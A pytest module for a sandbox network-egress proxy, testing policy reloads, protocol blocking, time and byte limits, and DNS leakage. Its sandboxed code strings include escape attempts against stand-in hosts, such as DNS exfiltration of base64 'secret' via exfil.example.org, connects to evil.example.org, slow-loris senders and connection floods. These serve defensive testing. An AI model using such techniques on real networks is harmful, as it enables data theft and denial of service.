# ruff: noqa: E501 - a program in a string keeps its own lines
"""E11 to E18 from an MCP client's end: reloads, other protocols, time, numbers and bytes."""

from __future__ import annotations

from collections.abc import AsyncIterator

import anyio
import pytest
from anyio.abc import ByteStream

from sandbox_server.access.egress import connection, requests
from tests.access.http.lab import Seen, answer, serve
from tests.access.way_out import ECHO, Here, fresh, open_way_out
from tests.access.whole import until

pytestmark = pytest.mark.anyio


@pytest.fixture(scope="module")
async def opened(anyio_backend: str, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Here]:
    async with open_way_out(tmp_path_factory.mktemp("way-out")) as here:
        yield here


@pytest.fixture
async def here(opened: Here) -> AsyncIterator[Here]:
    async with fresh(opened) as here:
        yield here


HOLD = """
s = tunnel()
s.sendall(b"x"); assert s.recv(1) == b"x"
try: print(s.recv(1))
except OSError as error: print(b"")
print(fetch(f"http://site.example.com:{SITE}/open/")[0], door(b"echo.example.com", ECHO))
"""


async def test_e11_a_reload_closes_a_tunnel_that_is_not_allowed_any_more(here: Here) -> None:
    said: list[str] = []

    async def hold() -> None:
        said.extend(await here.run(HOLD))

    async with anyio.create_task_group() as tasks:
        tasks.start_soon(hold)
        await until(lambda: here.echo.connections == 1)
        assert await here.server.rewrite(here.policy().replace("echo.example.com", "other.example.com"))
    assert said == ["b''", "200 403"]
    closed = [each for each in await here.server.record("connection") if each["host"] == ECHO]
    assert [each["reason"] for each in closed[-2:]] == ["the policy has changed", "no rule allows this host"]


BROKEN = {
    "an unknown key": "enforcment: observe\n",
    "an unknown key of the profile": "      alow: []\n",
    "a host that is none": '      deny: [{hosts: ["*"]}]\n',
    "no YAML": "]{[\n",
}


@pytest.mark.parametrize("item", BROKEN)
async def test_e12_a_reload_that_is_broken_leaves_everything_as_it_was(item: str, here: Here) -> None:
    said: list[str] = []
    code = """
s = tunnel()
s.sendall(b"x"); assert s.recv(1) == b"x"
print(fetch(f"http://site.example.com:{SITE}/open/wait")[0])
s.sendall(b"y"); print(s.recv(1))
print(fetch(f"http://site.example.com:{SITE}/open/")[0], status(talk(connect(b"evil.example.org", 443))))
"""
    reached, go = anyio.Event(), anyio.Event()

    async def script(seen: Seen, stream: ByteStream) -> None:
        reached.set()
        await go.wait()
        await answer()(seen, stream)

    async def hold() -> None:
        said.extend(await here.run(code))

    here.script = script
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(hold)
        await reached.wait()
        broken = here.policy(BROKEN[item]) if item != "no YAML" else here.policy() + BROKEN[item]
        assert not await here.server.rewrite(broken)
        go.set()
    assert said == ["200", "b'y'", "200 403"]


async def test_e13_nothing_but_tcp_by_the_proxy_gets_out(here: Here) -> None:
    """UDP and with it QUIC, ICMP, IPv6."""
    code = """
def attempt(family, kind, address, protocol=0):
    try:
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(1)
            s.connect(address); s.send(b"x")
            return "out"
    except OSError: return "no"
four, six, tcp, udp = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
print(attempt(four, udp, ("1.1.1.1", 443)), attempt(four, udp, ("1.1.1.1", 53)), attempt(six, udp, ("2606:4700::1111", 443)))
print(attempt(four, socket.SOCK_RAW, ("1.1.1.1", 0), socket.IPPROTO_ICMP), attempt(four, udp, ("1.1.1.1", 0), socket.IPPROTO_ICMP))
print(attempt(six, tcp, ("2606:4700::1111", 443)))
print(talk(b"\\5\\1\\0", b"\\5\\3\\0\\1" + bytes(6))[:4], talk(b"\\5\\1\\0", b"\\5\\2\\0\\1" + bytes(6))[:4])
for literal in (b"[::1]", b"[2606:4700::1111]", b"[::ffff:127.0.0.1]"):
    print(status(talk(connect(literal, SITE))), fetch(f"http://{literal.decode()}:{SITE}/open/")[0])
print(talk(b"\\5\\1\\0", b"\\5\\1\\0\\4" + bytes(15) + b"\\1" + SITE.to_bytes(2, "big"))[:4])
"""
    refused = "b'\\x05\\x00\\x05\\x07'"
    assert await here.run(code) == [
        "no no no",
        "no no",
        "no",
        f"{refused} {refused}",
        *["403 403"] * 3,
        "b'\\x05\\x00\\x05\\x02'",
    ]


async def test_e14_plain_http_does_not_become_a_websocket(here: Here) -> None:
    code = """
ask = b"GET http://site.example.com:%d/open/ HTTP/1.1\\r\\nHost: site.example.com:%d\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: eA==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n" % (SITE, SITE)
print(status(talk(ask)))
inner = ask.replace(b"http://site.example.com:%d" % SITE, b"").replace(b"site.", b"free.")
print(status(talk(connect(b"free.example.com", SITE), inner).partition(b"\\r\\n\\r\\n")[2]))
"""
    assert await here.run(code) == ["403", "403"]
    assert here.site.seen == []


async def test_e14_a_server_can_not_turn_plain_http_into_something_else(here: Here) -> None:
    async def switch(seen: Seen, stream: ByteStream) -> None:
        await stream.send(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\nraw"
        )

    here.script = switch
    assert await here.run('print(fetch(f"http://site.example.com:{SITE}/open/")[0])') == ["502"]


async def test_e15_an_idle_tunnel_is_closed(here: Here) -> None:
    assert await here.server.rewrite(here.policy("      idle: 1s\n"))
    code = """
s = tunnel()
print(s.recv(1))
"""
    assert await here.run(code) == ["b''"]
    assert (await here.server.record("connection"))[-1]["reason"] == "limit: idle"


async def test_e15_a_tunnel_that_is_never_idle_ends_after_all_its_time(here: Here) -> None:
    assert await here.server.rewrite(here.policy("      total: 1s\n"))
    code = """
s = tunnel(); count = 0
try:
    while s.send(b"x") and s.recv(1): count += 1; time.sleep(0.01)
except OSError: pass
print(count > 3)
"""
    assert await here.run(code) == ["True"]
    assert (await here.server.record("connection"))[-1]["reason"] == "limit: total"


async def test_e15_a_slow_loris_is_left(here: Here, monkeypatch: pytest.MonkeyPatch) -> None:
    """It keeps on sending, a byte at a time, and never enough."""
    monkeypatch.setattr(requests, "HEAD_SECONDS", 0.5)
    monkeypatch.setattr(connection, "HEAD_SECONDS", 0.5)
    code = """
def loris(data, answers=b""):
    began = time.monotonic()
    with socket.create_connection(proxy(), timeout=10) as s:
        try:
            for byte in data:
                s.sendall(bytes((byte,)))
                time.sleep(0.05)
        except OSError: pass
    return time.monotonic() - began < 4
head = b"GET http://site.example.com/open/ HTTP/1.1\\r\\nX: " + b"a" * 200
print(loris(head), loris(b"CONNECT site.example.com:443 HTTP/1.1\\r\\nX: " + b"a" * 200), loris(b"\\5" + bytes((200,)) + bytes(200)))
"""
    assert await here.run(code) == ["True True True"]
    await until(lambda: here.tunnels == 0)


async def test_e15_more_tunnels_than_granted_wait_or_are_refused(here: Here) -> None:
    assert await here.server.rewrite(here.policy("      tunnels: 3\n"))
    most = 0

    async def watch() -> None:
        nonlocal most
        while True:
            most = max(most, here.tunnels)
            await anyio.sleep(0.005)

    code = """
held = []
for _ in range(3): held.append(tunnel())
extra = []
for _ in range(200):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(proxy())
    except OSError: pass
    extra.append(s)
time.sleep(0.3)
held[0].sendall(b"x"); print(held[0].recv(1))
"""
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(watch)
        assert await here.run(code) == ["b'x'"]
        tasks.cancel_scope.cancel()
    assert most == 3


async def test_e16_what_a_sandbox_sends_is_capped_over_all_its_connections(here: Here) -> None:
    assert await here.server.rewrite(here.policy("      bytes_out: 200KiB\n"))
    code = """
print([fetch(f"http://site.example.com:{SITE}/open/", b"x" * 60_000)[0] for _ in range(3)])
heard = 0
try:
    s = tunnel()
    while True:
        s.sendall(b"y" * 1000)
        more = s.recv(1000)
        heard += len(more)
        if not more: break
except OSError: pass
print(heard)
print(fetch(f"http://site.example.com:{SITE}/open/")[0])
"""
    first, heard, last = await here.run(code)
    assert (first, last) == ("[200, 200, 200]", "403")
    assert 0 < int(heard) < 200 * 1024 - 3 * 60_000
    assert [len(each.body) for each in here.site.seen] == [60_000] * 3


async def test_e17_a_name_that_is_not_allowed_leaves_no_trace_in_any_resolver(here: Here) -> None:
    code = """
name = "c2VjcmV0.exfil.example.org"
try: socket.getaddrinfo(name, 443); print("found")
except OSError: print("no resolver")
print(fetch(f"http://{name}/")[0], status(talk(connect(name.encode(), 443))))
print(talk(b"\\5\\1\\0", b"\\5\\1\\0\\3%c%b" % (len(name), name.encode()) + b"\\1\\xbb")[:4])
print(status(talk(connect(b"x.site.example.com", SITE))), status(talk(connect(b"site.example.com.evil.example.org", SITE))))
"""
    assert await here.run(code) == ["no resolver", "403 403", "b'\\x05\\x00\\x05\\x02'", "403 403"]
    assert here.zone.asked == []


async def test_e18_where_the_server_listens_is_out_of_reach_although_its_address_is_opened(
    here: Here,
) -> None:
    async with serve(answer()) as own:
        more = here.policy().replace(
            "      allow:\n",
            f'      allow:\n        - {{hosts: ["127.0.0.1:{own.port}", "own.example.com:{own.port}"], addresses: ["127.0.0.0/8"]}}\n',
        )
        assert await here.server.rewrite(more)
        code = f"""
plain = b"GET http://127.0.0.1:{own.port}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{own.port}\\r\\nConnection: close\\r\\n\\r\\n"
print(status(talk(plain)), fetch("http://own.example.com:{own.port}/")[0], door(b"127.0.0.1", {own.port}))
"""
        assert await here.run(code) == ["200 200 200"]
        before = own.connections
        here.server.enforced.ports.add(own.port)
        assert await here.run(code) == ["403 403 403"]
        assert own.connections == before
